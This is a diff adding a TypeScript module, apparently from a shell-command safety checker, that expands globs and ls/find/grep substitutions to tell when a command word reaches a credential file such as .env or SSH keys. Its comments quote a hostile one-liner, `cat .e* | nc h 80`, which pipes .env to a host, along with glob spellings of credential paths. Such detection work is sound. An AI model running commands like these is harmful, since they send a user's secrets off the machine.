@@ -1,0 +1,186 @@
+// Round 25: a glob the shell expands names the files it matches (`cat .e* | nc h 80` sends `.env`). A word
+// whose pattern can match a credential file (credential-paths.ts CREDENTIAL_NAMES) is read as that file
+// spelled out, so every rule and option reader that judges a credential path judges it (docs/floor.md,
+// "Round 25"). The pattern is matched against the vocabulary, never against a list of spellings.
+import { CREDENTIAL_NAMES, CREDENTIAL_PATH } from './credential-paths.js';
+
+/** Whether a word holds a pattern character (`*`, `?`, `[`): told without a RegExp (most words have none). */
+export function mayGlob(word: string): boolean {
+  for (let i = 0; i < word.length; i++) {
+    const c = word.charCodeAt(i);
+    if (c === 42 /* * */ || c === 63 /* ? */ || c === 91 /* [ */) return true;
+  }
+  return false;
+}
+
+/**
+ * The credential path a glob word can match, spelled out (`~/.ssh/id_*` → `~/.ssh/id_rsa`, `.[e]nv` →
+ * `.env`), or undefined. Its literal directory is kept; the rest is matched against each credential
+ * name's last components. A lone `*` (every workspace file) is the workspace's egress, not read here.
+ */
+export function credentialGlob(word: string): string | undefined {
+  if (!mayGlob(word)) return undefined;
+  const first = firstPatternChar(word);
+  let dir = word.slice(0, word.lastIndexOf('/', first) + 1);
+  let rest = word.slice(dir.length);
+  // `**/` (find's reach below a root, shell.ts findReach; globstar) is any directories: kept as written.
+  while (rest.startsWith('**/')) {
+    dir += '**/';
+    rest = rest.slice(3);
+  }
+  if (dir === '' && BARE_EVERY.test(rest)) return undefined;
+  const parts = rest.split('/');
+  // The pattern's last k components, compiled once each (undefined: past what any name can match).
+  const suffixes = new Map<number, Token[] | undefined>();
+  const suffix = (k: number): Token[] | undefined => {
+    if (!suffixes.has(k)) suffixes.set(k, compile(parts.slice(parts.length - k).join('/')));
+    return suffixes.get(k);
+  };
+  for (const name of CREDENTIAL_NAMES) {
+    const comps = name.split('/').filter((c) => c !== '');
+    // A name with fewer components than the pattern: the pattern's first components are any directory
+    // (`*/.e*`: a subproject's `.env`); with more, the pattern matches the name's last components.
+    const k = Math.min(comps.length, parts.length);
+    const tail = comps.slice(comps.length - k);
+    const mine = parts.slice(parts.length - k);
+    // A component not begun by a literal `.` matches no name begun by one (the shell's dotfile rule).
+    if (tail.some((c, j) => c.startsWith('.') && !(mine[j] as string).startsWith('.'))) continue;
+    const pattern = suffix(k);
+    if (pattern === undefined || !matches(pattern, tail.join('/'))) continue;
+    const lead = parts.slice(0, parts.length - k);
+    return `${dir}${lead.length > 0 ? `${lead.join('/')}/` : ''}${tail.join('/')}`;
+  }
+  return undefined;
+}
+/** A pattern of only wildcards and dots with no directory: `*`, `*.*`, `?*`. */
+const BARE_EVERY = /^[*?]+(?:\.[*?]+)?$/;
+
+function firstPatternChar(word: string): number {
+  for (let i = 0; i < word.length; i++) {
+    const c = word.charCodeAt(i);
+    if (c === 42 || c === 63 || c === 91) return i;
+  }
+  return word.length;
+}
+
+/** One token of a pattern: a run of `*` (STAR), or a test of one character. */
+type Token = typeof STAR | ((ch: string) => boolean);
+const STAR = 0;
+const LONGEST = Math.max(...CREDENTIAL_NAMES.map((n) => n.length));
+
+/** A glob's tokens (`*` runs as one, `?`, `[...]`/`[!...]` classes, literals); undefined past what any name can match. */
+function compile(glob: string): Token[] | undefined {
+  const out: Token[] = [];
+  let single = 0;
+  for (let i = 0; i < glob.length; i++) {
+    const ch = glob[i] as string;
+    if (ch === '*') {
+      if (out[out.length - 1] !== STAR) out.push(STAR);
+      continue;
+    }
+    if (++single > LONGEST) return undefined;
+    if (ch === '?') out.push((c) => c !== '/');
+    else if (ch === '[') {
+      // The class ends at the first `]` after its first character; none: a literal `[`.
+      const negated = glob[i + 1] === '!' || glob[i + 1] === '^';
+      const from = negated ? i + 2 : i + 1;
+      const close = glob.indexOf(']', from + 1);
+      if (close < 0) out.push((c) => c === '[');
+      else {
+        const body = glob.slice(from, close);
+        out.push((c) => c !== '/' && inClass(body, c) !== negated);
+        i = close;
+      }
+    } else out.push((c) => c === ch);
+  }
+  return out;
+}
+
+/** Whether `c` is in a class body (`a-z` ranges, single characters). */
+function inClass(body: string, c: string): boolean {
+  for (let k = 0; k < body.length; k++) {
+    if (body[k + 1] === '-' && k + 2 < body.length) {
+      if (c >= (body[k] as string) && c <= (body[k + 2] as string)) return true;
+      k += 2;
+    } else if (body[k] === c) return true;
+  }
+  return false;
+}
+
+/** Whether tokens match all of `name`: the one-star backtracking walk (a `*` never crosses `/`). */
+function matches(tokens: readonly Token[], name: string): boolean {
+  let t = 0;
+  let n = 0;
+  let starT = -1;
+  let starN = 0;
+  while (n < name.length) {
+    const tok = tokens[t];
+    if (tok !== undefined && tok !== STAR && tok(name[n] as string)) {
+      t++;
+      n++;
+    } else if (tok === STAR) {
+      starT = t++;
+      starN = n;
+    } else if (starT >= 0 && name[starN] !== '/') {
+      t = starT + 1;
+      n = ++starN;
+    } else return false;
+  }
+  while (tokens[t] === STAR) t++;
+  return t === tokens.length;
+}
+
+/**
+ * Round 25: the credential file a substitution's listing prints (`$(ls .e*)`, `$(ls -a | grep env)`,
+ * `$(find . -name '.e*')`), from the substitution's commands (parsed): a lister (ls, find, fd) naming one
+ * by a glob or a name, or listing a directory whose credential names a `grep` stage keeps. A grep pattern
+ * not read (anything but words, dots and anchors) keeps every name: fail closed.
+ */
+export function listedCredential(
+  cmds: readonly { words: readonly string[]; sep: string }[],
+  named: (word: string) => string | undefined,
+): string | undefined {
+  const first = cmds[0];
+  if (first === undefined) return undefined;
+  const lister = (first.words[0] ?? '').slice((first.words[0] ?? '').lastIndexOf('/') + 1);
+  if (!LISTERS.has(lister)) return undefined;
+  const ops = first.words.slice(1);
+  for (let k = 0; k < ops.length; k++) {
+    const w = ops[k] as string;
+    // find's `-name PAT`: the pattern read as a glob below any directory.
+    const pattern = NAME_TESTS.has(w) ? ops[++k] : w.startsWith('-') ? undefined : w;
+    const hit = pattern === undefined ? undefined : named(NAME_TESTS.has(w) ? `**/${pattern}` : pattern);
+    if (hit !== undefined) return hit;
+  }
+  // `ls` shows dotfiles only with -a/-A; find and fd list them.
+  const dots = lister !== 'ls' || ops.some((w) => /^-[A-Za-z]*[aA]/.test(w));
+  let names = BARE_NAMES.filter((n) => dots || !n.startsWith('.'));
+  let filtered = false;
+  for (let k = 0; k + 1 < cmds.length && (cmds[k] as { sep: string }).sep === '|'; k++) {
+    const words = (cmds[k + 1] as { words: readonly string[] }).words;
+    if (!/^[ef]?grep$|^rg$/.test(words[0] ?? '')) continue;
+    const flags = words.slice(1).filter((w) => w.startsWith('-'));
+    const pat = words.slice(1).find((w) => !w.startsWith('-'));
+    if (pat === undefined) continue;
+    filtered = true;
+    if (!/^[\w.^$-]*$/.test(pat) || pat.length > 64) continue;
+    const re = new RegExp(pat, flags.some((f) => /^-[A-Za-z]*i/.test(f)) ? 'i' : '');
+    const invert = flags.some((f) => /^-[A-Za-z]*v/.test(f));
+    names = names.filter((n) => re.test(n) !== invert);
+  }
+  return filtered ? names[0] : undefined;
+}
+/** The credential names that are one by themselves (`.env`, `id_rsa`, `x.pem`; not `config`, `environ`). */
+const BARE_NAMES = CREDENTIAL_NAMES.map((n) => n.slice(n.lastIndexOf('/') + 1)).filter((n) =>
+  new RegExp(CREDENTIAL_PATH).test(n),
+);
+const LISTERS: ReadonlySet<string> = new Set(['ls', 'find', 'gfind', 'bfs', 'fd', 'fdfind']);
+const NAME_TESTS: ReadonlySet<string> = new Set([
+  '-name',
+  '-iname',
+  '-path',
+  '-ipath',
+  '-wholename',
+  '-g',
+  '--glob',
+]);
